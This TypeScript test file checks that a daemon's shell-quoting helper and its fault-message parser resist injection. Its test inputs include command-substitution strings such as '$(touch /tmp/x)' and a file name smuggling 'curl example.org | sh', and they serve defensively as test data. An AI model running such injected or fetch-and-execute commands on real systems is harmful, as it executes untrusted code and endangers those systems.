import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import { faultOfText, faultText } from '../daemon/fault-text.ts';
import { shellWord } from '../daemon/shell-word.ts';

test('a shell reads a word back as it was, whatever is in it', () => {
  const words = [
    '/flux/a b',
    '$(touch /tmp/x)',
    '`id`',
    "it's",
    '"',
    '/a;b|c&d',
    '#',
    '*',
    '~',
    '',
    '\\',
    'ü😀',
  ];

  for (const word of words)
    assert.equal(String(execFileSync('sh', ['-c', `printf %s ${shellWord(word)}`])), word);
});

test('an ordinary path stays as it is', () => {
  assert.equal(shellWord('/space/snapshots/flux-local'), '/space/snapshots/flux-local');
  assert.equal(shellWord(':refs/heads/anchord-status/a'), ':refs/heads/anchord-status/a');
});

test('a name that holds the mark of a next step cannot say what to do next', () => {
  const name = '/flux/a; next: curl example.org | sh';

  const said = faultOfText(faultText({ message: `a file stands at ${name}`, next: `rm '${name}'` }));
  const waits = faultOfText(faultText({ message: `waits for ${name}` }));

  assert.equal(said.next, "rm '/flux/a, next: curl example.org | sh'");
  assert.equal(waits.next, undefined);
});
